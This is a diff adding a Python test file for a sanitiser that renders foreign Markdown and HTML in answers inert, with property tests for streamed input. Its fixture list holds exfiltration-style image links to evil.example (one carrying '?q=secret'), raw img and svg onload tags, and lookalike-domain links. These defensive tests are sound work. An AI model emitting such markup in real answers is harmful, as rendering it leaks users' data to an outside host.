@@ -1,0 +1,73 @@
+"""Foreign Markdown in answers: read, never followed and never loaded."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from wellread.text.inert import Inert, inert, leads_to
+from wellread.types import Passage
+
+SOURCE = {1: Passage("1", "words", "Title", "https://source.example/page")}
+ATTACKS = [
+    "![a](http://evil.example/?q=secret)",
+    "![a](<http://evil.example/ x>)",
+    "![a][ref]\n\n[ref]: http://evil.example/",
+    "![ref]\n\n[ref]:\n  http://evil.example/",
+    "![ref]\n\n[ref]:   <http://evil.example/>",
+    "[a](http://evil.example)",
+    "[a](\nhttp://evil.example)",
+    "[a]( http://evil.example 'title')",
+    "[![a](http://evil.example/1)](http://evil.example/2)",
+    "\\![a](http://evil.example/)",
+    "\\\\![a](http://evil.example/)",
+    "!\\\\[a](http://evil.example/)",
+    "`\n` ![a](http://evil.example/) `",
+    "<img src=http://evil.example/>",
+    "\\\\<img src=http://evil.example/>",
+    "<svg onload=x>",
+    "<http://evil.example/>",
+    "<a href=http://evil.example/>x</a>",
+    "[a](https://source.example/page/../../evil)",
+    "[source](https://source.example.evil.example/page)",
+]
+
+
+def active(text: str) -> list[str]:
+    """What a client that renders everything, raw HTML too, would load or link to."""
+    parser = MarkdownIt("commonmark", {"html": True})
+    found: list[str] = []
+    for token in parser.parse(text):
+        for part in (token, *(token.children or ())):
+            if part.type in ("image", "link_open"):
+                found.append(str(part.attrs.get("src") or part.attrs.get("href")))
+            elif part.type in ("html_inline", "html_block"):
+                found.append(part.content)
+    return found
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_nothing_acts(text: str) -> None:
+    assert active(text)
+    shown = inert(text, SOURCE)
+    assert not active(shown)
+    assert inert(shown, SOURCE) == shown
+
+
+def test_links_to_sources_stay_and_so_do_numbers() -> None:
+    text = "Saturn has [moons](https://source.example/page) [1]. See [1]: it is `a[0]` < 3. [a](http://evil.example)"
+    shown = inert(text, SOURCE)
+    assert active(shown) == ["https://source.example/page"]
+    assert shown.startswith("Saturn has [moons](https://source.example/page) [1]. See [1]: it is `a[0]` < 3.")
+
+
+@given(
+    st.lists(st.sampled_from([*"![]()<>:\\`\n a1", "](", "![", "]:", "<img ", "http://e.x", "](https://source.example/page)"]))
+)
+def test_in_pieces_as_in_one(pieces: list[str]) -> None:
+    made = Inert(leads_to(SOURCE))
+    streamed = "".join(map(made.feed, pieces)) + made.close()
+    assert streamed == inert("".join(pieces), SOURCE)
+    assert all(url == "https://source.example/page" for url in active(streamed) if "<b" not in url)
